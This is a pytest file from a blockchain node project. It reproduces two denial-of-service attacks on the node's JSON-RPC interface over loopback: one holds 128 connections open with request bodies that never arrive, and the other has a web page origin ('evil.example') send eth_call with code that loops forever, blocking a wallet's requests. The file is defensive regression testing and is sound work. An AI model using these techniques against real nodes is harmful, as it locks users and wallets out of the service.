"""A16: requests whose bodies never come, and endless calls of a web page, keep a node's interface from everybody.

A body has no time limit and a request counts as open while it is read, so 128 connections that stay silent are all that
the interface serves. Computing calls are open to web pages, and one process computes them one after the other.

Earns: every request is refused as long as the attacker likes; 20 endless calls made a wallet wait 40 s and longer.
Kind: node, from the same machine or any web page that is open on it; real connections on loopback.
Wins today; to be turned around by the rule that stops it.
"""

import asyncio
import json
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from learnchain.api.json_rpc import JsonRpcServer, JsonRpcSettings
from learnchain.execution.call_process import CallProcess
from learnchain.execution.engine import WorkerEngine
from learnchain.execution.pyevm.engine import PyEvmEngine
from learnchain.storage.lmdb_store import LmdbStore
from tests.execution.pyevm.chain import CHAIN_ID, genesis

pytestmark = pytest.mark.network
PAGE = "https://evil.example"
ENDLESS = {"data": "0x5b5f56"}
"""Init code that jumps to its own start: JUMPDEST PUSH0 JUMP."""
WALLET_CALL = {"from": "0x" + "00" * 20, "to": "0x" + "11" * 20}


@dataclass(frozen=True)
class SilentBodies:
    """What an honest request gets before, while and after silent requests are open."""

    before: bool
    meanwhile: str
    afterwards: bool


@dataclass(frozen=True)
class EndlessCalls:
    """How long a wallet waits for one call, alone and behind the calls of a web page."""

    alone_seconds: float
    behind_seconds: float
    limit_seconds: float


async def ask(session: aiohttp.ClientSession, port: int, method: str, *params: Any, origin: str = "") -> str:
    """Ask once, as a web page if an origin is named, and return the text of the answer."""
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
    headers = {"Origin": origin} if origin else {}
    async with session.post(f"http://127.0.0.1:{port}/", data=body, headers=headers) as response:
        return await response.text()


async def open_silent(port: int) -> asyncio.StreamWriter:
    """Begin a request and never send the rest of its body."""
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000\r\n\r\n{")
    await writer.drain()
    return writer


@asynccontextmanager
async def served(directory: Path, limit_seconds: float = 5.0) -> AsyncIterator[tuple[int, aiohttp.ClientSession]]:
    """Serve an engine whose computing calls run in a process of their own; yield the port and a session."""
    store = LmdbStore(directory / "execution", map_size_bytes=1 << 20)
    async with WorkerEngine(PyEvmEngine(store, genesis(60_000_000))) as engine, aiohttp.ClientSession() as session:
        calls = CallProcess(engine, directory / "execution", CHAIN_ID, limit_seconds)
        async with JsonRpcServer(engine, JsonRpcSettings(port=0), caller=calls) as server:
            yield server.port, session
    store.close()


async def keep_bodies_back(directory: Path, requests: int) -> SilentBodies:
    """Hold requests open without their bodies while an honest caller asks."""
    async with served(directory) as (port, session):
        before = "result" in await ask(session, port, "eth_blockNumber")
        silent = [await open_silent(port) for _ in range(requests)]
        await asyncio.sleep(0.5)
        meanwhile = await ask(session, port, "eth_blockNumber")
        for writer in silent:
            writer.close()
        await asyncio.sleep(0.5)
        return SilentBodies(before, meanwhile, "result" in await ask(session, port, "eth_blockNumber"))


async def wait_behind_page(directory: Path, calls: int, limit_seconds: float) -> EndlessCalls:
    """Let a web page start endless calls, and time what a wallet asks after them."""
    async with served(directory, limit_seconds) as (port, session):
        await ask(session, port, "eth_estimateGas", WALLET_CALL)
        start = time.perf_counter()
        await ask(session, port, "eth_estimateGas", WALLET_CALL)
        alone = time.perf_counter() - start
        endless = [
            asyncio.create_task(ask(session, port, "eth_call", ENDLESS, "latest", origin=PAGE)) for _ in range(calls)
        ]
        await asyncio.sleep(0.2)
        start = time.perf_counter()
        await ask(session, port, "eth_estimateGas", WALLET_CALL)
        behind = time.perf_counter() - start
        await asyncio.gather(*endless)
        return EndlessCalls(alone, behind, limit_seconds)


def attack(directory: Path, requests: int = JsonRpcSettings().maximum_requests) -> SilentBodies:
    """Run the attack of the silent bodies."""
    return asyncio.run(keep_bodies_back(directory, requests))


def attack_calls(directory: Path, calls: int = 3, limit_seconds: float = 0.5) -> EndlessCalls:
    """Run the attack of the endless calls, with a limit for one call that a test can wait for."""
    return asyncio.run(wait_behind_page(directory, calls, limit_seconds))


def test_silent_bodies_keep_everybody_out(tmp_path: Path) -> None:
    result = attack(tmp_path)
    assert result.before
    assert "too many requests" in result.meanwhile
    assert result.afterwards


@pytest.mark.slow
def test_a_wallet_waits_behind_every_endless_call_of_a_web_page(tmp_path: Path) -> None:
    result = attack_calls(tmp_path)
    assert result.alone_seconds < result.limit_seconds
    assert result.behind_seconds > 2 * result.limit_seconds
